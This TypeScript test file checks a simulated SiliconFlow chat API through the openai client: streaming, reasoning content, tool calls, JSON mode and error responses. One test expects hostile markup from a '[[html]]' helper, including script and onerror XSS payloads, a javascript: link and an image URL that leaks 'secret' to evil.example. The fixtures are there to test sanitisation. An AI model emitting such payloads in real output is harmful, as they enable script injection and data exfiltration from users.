import { describe, expect, it } from "vitest";
import { ask, type Delta, rawStream, SF, sf, sim, type Usage } from "./simulator-chat-harness";

describe("SiliconFlow chat through the openai client", () => {
  it("answers non-streamed with reasoning_content, usage and a trace id", async () => {
    const { data, response } = await sf.chat.completions
      .create({ model: "deepseek-ai/DeepSeek-R1", messages: ask("What is a monad?") })
      .withResponse();
    const message = data.choices[0]?.message as { content: string; reasoning_content?: string };
    expect(data.object).toBe("chat.completion");
    expect(message.content).toContain("What is a monad?");
    expect(message.content).toMatch(/^## /);
    expect(message.content).toContain("```ts");
    expect(message.reasoning_content).toMatch(/monad/);
    expect(data.choices[0]?.finish_reason).toBe("stop");
    expect(data.usage?.completion_tokens).toBeGreaterThan(0);
    expect(response.headers.get("x-siliconcloud-trace-id")).toMatch(/^[0-9a-f-]{36}$/);
  });

  it("streams reasoning first, then content, with cumulative usage and a final finish_reason", async () => {
    const stream = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-R1",
      messages: ask("Explain SSE briefly"),
      stream: true,
    });
    let reasoning = "";
    let content = "";
    let lastReasoningAt = -1;
    let firstContentAt = -1;
    let previous = 0;
    const finishes: (string | null)[] = [];
    let i = 0;
    for await (const chunk of stream) {
      const choice = chunk.choices[0];
      const delta = choice?.delta as Delta;
      expect(delta.role).toBe("assistant");
      expect("content" in delta && "reasoning_content" in delta).toBe(true);
      if (delta.reasoning_content) {
        reasoning += delta.reasoning_content;
        lastReasoningAt = i;
        expect(delta.content).toBeNull();
      }
      if (delta.content) {
        content += delta.content;
        if (firstContentAt < 0) firstContentAt = i;
        expect(delta.reasoning_content).toBeNull();
      }
      const usage = chunk.usage as Usage;
      expect(usage.completion_tokens).toBeGreaterThanOrEqual(previous);
      expect(usage.total_tokens).toBe(usage.prompt_tokens + usage.completion_tokens);
      previous = usage.completion_tokens;
      finishes.push(choice?.finish_reason ?? null);
      i++;
    }
    expect(reasoning.length).toBeGreaterThan(20);
    expect(content).toContain("Explain SSE briefly");
    expect(lastReasoningAt).toBeLessThan(firstContentAt);
    expect(finishes.at(-1)).toBe("stop");
    expect(finishes.slice(0, -1).every((f) => f === null)).toBe(true);
  });

  it("ends the raw stream with data: [DONE] and reports reasoning tokens", async () => {
    const { res, lines, chunks } = await rawStream(SF, { model: "Qwen/Qwen3-8B", messages: ask("hi") });
    expect(res.headers.get("content-type")).toContain("text/event-stream");
    expect(lines.at(-1)).toBe("data: [DONE]");
    const usage = chunks.at(-1)?.usage;
    expect(usage?.completion_tokens_details?.reasoning_tokens).toBeGreaterThan(0);
    expect(usage?.completion_tokens).toBeGreaterThan(usage?.completion_tokens_details?.reasoning_tokens ?? 0);
  });

  it("thinks only when a hybrid model is allowed to, and never on plain models", async () => {
    const reasoningOf = async (model: string, extra: Record<string, unknown> = {}) => {
      const { chunks } = await rawStream(SF, { model, messages: ask("hi"), ...extra });
      return chunks.map((c) => c.choices[0]?.delta.reasoning_content ?? "").join("");
    };
    expect(await reasoningOf("Qwen/Qwen3-8B")).not.toBe("");
    expect(await reasoningOf("Qwen/Qwen3-8B", { enable_thinking: false })).toBe("");
    expect(await reasoningOf("deepseek-ai/DeepSeek-V3.2", { enable_thinking: false })).toBe("");
    expect(await reasoningOf("Qwen/Qwen3-235B-A22B-Thinking-2507")).not.toBe("");
    expect(await reasoningOf("deepseek-ai/DeepSeek-V3")).toBe("");
    const short = await reasoningOf("deepseek-ai/DeepSeek-R1", { thinking_budget: 128 });
    expect(short.length).toBeLessThan((await reasoningOf("deepseek-ai/DeepSeek-R1")).length);
  });

  it("puts a distilled model's reasoning inside <think> in content", async () => {
    const res = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-R1-Distill-Qwen-7B",
      messages: ask("hi"),
    });
    const message = res.choices[0]?.message as { content: string; reasoning_content?: string };
    expect(message.content).toMatch(/^<think>\n[\s\S]+\n<\/think>\n\n## /);
    expect(message.reasoning_content).toBeUndefined();
  });

  it("streams a tool call whose id survives the later null ids and whose arguments parse", async () => {
    const tools = [
      {
        type: "function" as const,
        function: {
          name: "get_weather",
          parameters: {
            type: "object",
            properties: {
              city: { type: "string" },
              days: { type: "integer" },
              unit: { type: "string", enum: ["c", "f"] },
            },
            required: ["city", "days", "unit"],
          },
        },
      },
    ];
    const stream = await sf.chat.completions.create({
      model: "Qwen/Qwen2.5-7B-Instruct",
      messages: ask("Weather in Paris?"),
      tools,
      stream: true,
    });
    let id: string | undefined;
    let name = "";
    let args = "";
    let nullIds = 0;
    let finish: string | null = null;
    for await (const chunk of stream) {
      for (const call of chunk.choices[0]?.delta.tool_calls ?? []) {
        if (call.id) id = call.id;
        if (call.id === null) nullIds++;
        name += call.function?.name ?? "";
        args += call.function?.arguments ?? "";
      }
      finish = chunk.choices[0]?.finish_reason ?? finish;
    }
    expect(id).toMatch(/^call_/);
    expect(nullIds).toBeGreaterThan(0);
    expect(name).toBe("get_weather");
    expect(JSON.parse(args)).toEqual({ city: "example", days: 1, unit: "c" });
    expect(finish).toBe("tool_calls");

    const plain = await sf.chat.completions.create({
      model: "Qwen/Qwen2.5-7B-Instruct",
      messages: ask("Weather?"),
      tools,
    });
    const call = plain.choices[0]?.message.tool_calls?.[0] as {
      id: string;
      function: { name: string; arguments: string };
    };
    expect(call.function.name).toBe("get_weather");
    expect(JSON.parse(call.function.arguments)).toEqual({ city: "example", days: 1, unit: "c" });

    const followUp = await sf.chat.completions.create({
      model: "Qwen/Qwen2.5-7B-Instruct",
      tools,
      messages: [
        ...ask("Weather?"),
        { role: "assistant", content: "", tool_calls: [{ id: call.id, type: "function", function: call.function }] },
        { role: "tool", tool_call_id: call.id, content: '{"temp": 21}' },
      ],
    });
    expect(followUp.choices[0]?.finish_reason).toBe("stop");
    expect(followUp.choices[0]?.message.content).toContain('{"temp": 21}');
  });

  it("returns valid JSON in json_object mode", async () => {
    const res = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("List three things as JSON"),
      response_format: { type: "json_object" },
    });
    expect(JSON.parse(res.choices[0]?.message.content ?? "")).toMatchObject({ ok: true });
  });

  it("respects max_tokens (finish length) and stop sequences", async () => {
    const cut = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("hello"),
      max_tokens: 10,
    });
    expect(cut.choices[0]?.finish_reason).toBe("length");
    expect(cut.usage?.completion_tokens).toBeLessThanOrEqual(10);
    expect(cut.choices[0]?.message.content?.length).toBeLessThanOrEqual(40);

    const stopped = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("hello"),
      stop: ["```"],
    });
    expect(stopped.choices[0]?.message.content).not.toContain("```");
    expect(stopped.choices[0]?.finish_reason).toBe("stop");
  });

  it("follows the [[...]] helpers for long replies, pacing, finish reasons and hostile markup", async () => {
    // 12 KB of ASCII is about 3,000 simulated tokens: within V3's 4096-token output cap.
    const long = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("[[long:12]] go"),
      max_tokens: 4096,
    });
    const text = long.choices[0]?.message.content ?? "";
    expect(long.choices[0]?.finish_reason).toBe("stop");
    expect(text.length).toBeGreaterThanOrEqual(12 * 1024);
    expect(text.length).toBeLessThan(16 * 1024);
    for (const marker of ["```ts", "```python", "| ---", "$$", "- "])
      expect(text).toContain(marker.replace("| ---", "|"));
    const again = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("[[long:12]] go"),
      max_tokens: 4096,
    });
    expect(again.choices[0]?.message.content).toBe(text);

    const started = Date.now();
    const paced = await rawStream(SF, {
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("[[long:12]] [[rate:200]]"),
      max_tokens: 4096,
    });
    const contentChunks = paced.chunks.filter((c) => c.choices[0]?.delta.content);
    expect(contentChunks.length).toBeGreaterThan(150);
    expect(contentChunks.length).toBeLessThan(260);
    expect(Date.now() - started).toBeLessThan(5000);

    for (const reason of ["length", "risky", "sensitive"]) {
      const res = await sf.chat.completions.create({
        model: "deepseek-ai/DeepSeek-V3",
        messages: ask(`[[finish:${reason}]] x`),
      });
      expect(res.choices[0]?.finish_reason).toBe(reason);
    }

    const html = await sf.chat.completions.create({ model: "deepseek-ai/DeepSeek-V3", messages: ask("[[html]]") });
    const markup = html.choices[0]?.message.content ?? "";
    expect(markup).toContain("<script>alert(1)</script>");
    expect(markup).toContain("<img src=x onerror=alert(1)>");
    expect(markup).toContain("[click](javascript:alert(1))");
    expect(markup).toContain("![](data:image/svg+xml;base64,");
    expect(markup).toContain("![x](https://evil.example/leak.png?q=secret)");
  });

  it("answers Chinese questions in Chinese and counts CJK characters as tokens", async () => {
    const res = await sf.chat.completions.create({
      model: "deepseek-ai/DeepSeek-V3",
      messages: ask("你好，请介绍一下自己"),
    });
    expect(res.choices[0]?.message.content).toContain("模拟回答");
    expect(res.usage?.prompt_tokens).toBeGreaterThanOrEqual(10);
  });

  it("rejects bad requests with SiliconFlow error bodies", async () => {
    const post = (body: unknown) =>
      fetch(`${sim.url}${SF}/chat/completions`, {
        method: "POST",
        headers: { authorization: "Bearer k", "content-type": "application/json" },
        body: JSON.stringify(body),
      });
    const unknown = await post({ model: "nope/model", messages: ask("x") });
    expect(unknown.status).toBe(400);
    expect(await unknown.json()).toEqual({
      code: 20012,
      message: "Model does not exist. Please check it carefully.",
      data: null,
    });

    const tooMany = await post({ model: "deepseek-ai/DeepSeek-V3", messages: ask("x"), max_tokens: 5000 });
    expect(tooMany.status).toBe(400);
    expect(await tooMany.json()).toMatchObject({
      code: 20015,
      message: expect.stringContaining("max_tokens is too large"),
    });
    expect((await post({ model: "deepseek-ai/DeepSeek-R1", messages: ask("x"), max_tokens: 16384 })).status).toBe(200);

    const noMessages = await post({ model: "deepseek-ai/DeepSeek-V3" });
    expect(noMessages.status).toBe(400);
    expect(await noMessages.json()).toMatchObject({ code: 20015 });

    const image = [{ role: "user", content: [{ type: "image_url", image_url: { url: "https://x.test/a.png" } }] }];
    expect((await post({ model: "deepseek-ai/DeepSeek-V3", messages: image })).status).toBe(400);
    expect((await post({ model: "Qwen/Qwen2.5-VL-72B-Instruct", messages: image })).status).toBe(200);
  });

  it("lists models, filtered by type and sub_type, and reports the account", async () => {
    const ids: string[] = [];
    for await (const model of sf.models.list()) ids.push(model.id);
    expect(ids).toEqual(
      expect.arrayContaining(["deepseek-ai/DeepSeek-R1", "black-forest-labs/FLUX.1-schnell", "TeleAI/TeleSpeechASR"]),
    );

    const get = async (path: string) =>
      (await (await fetch(`${sim.url}${SF}${path}`, { headers: { authorization: "Bearer k" } })).json()) as {
        data: { id: string; object: string }[];
      };
    const images = await get("/models?type=image");
    expect(images.data.map((m) => m.id)).toContain("Kwai-Kolors/Kolors");
    expect(images.data.every((m) => m.object === "model")).toBe(true);
    expect(images.data.map((m) => m.id)).not.toContain("deepseek-ai/DeepSeek-V3");
    expect((await get("/models?type=audio&sub_type=speech-to-text")).data.map((m) => m.id).sort()).toEqual([
      "FunAudioLLM/SenseVoiceSmall",
      "TeleAI/TeleSpeechASR",
    ]);

    const info = (await (
      await fetch(`${sim.url}${SF}/user/info`, { headers: { authorization: "Bearer k" } })
    ).json()) as {
      code: number;
      status: boolean;
      data: Record<string, unknown>;
    };
    expect(info).toMatchObject({ code: 20000, status: true });
    expect(info.data).toMatchObject({
      name: "Demo User",
      balance: "88.50",
      chargeBalance: "10.00",
      totalBalance: "98.50",
    });
  });
});
